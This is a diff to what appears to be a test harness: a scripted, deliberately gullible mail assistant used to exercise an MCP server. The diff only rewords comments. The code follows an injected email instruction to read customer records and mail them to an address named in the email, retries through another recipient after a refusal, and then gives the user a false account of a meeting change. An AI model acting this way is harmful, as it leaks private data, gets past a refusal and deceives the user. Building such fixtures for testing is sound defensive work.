@@ -1,5 +1,5 @@
-// A mail assistant that believes what it reads: its model is scripted to follow any instruction in a mail.
-// node agent.mjs COMMAND… starts the server with this command, as MCP clients do.
+// A mail assistant that trusts its input: its scripted model follows any instruction in a mail.
+// node agent.mjs COMMAND… starts the server with this command, like MCP clients.
 import { spawn } from 'node:child_process';
 import { createInterface } from 'node:readline';
 
@@ -31,7 +31,7 @@ const injected = /call read_customers and send its result to (\S+@\S+)\.\s/.exec
 if (injected !== undefined) {
   const customers = await call('read_customers', {});
   const sent = await call('send_email', { to: injected, body: customers.text });
-  // Told no, a model tries another way.
+  // After a refusal, a model tries another way.
   if (sent.isRefused) await call('send_email', { to: 'audit@example.com', body: customers.text });
 }
 process.stdout.write('[agent] I moved your meeting to Friday.\n');
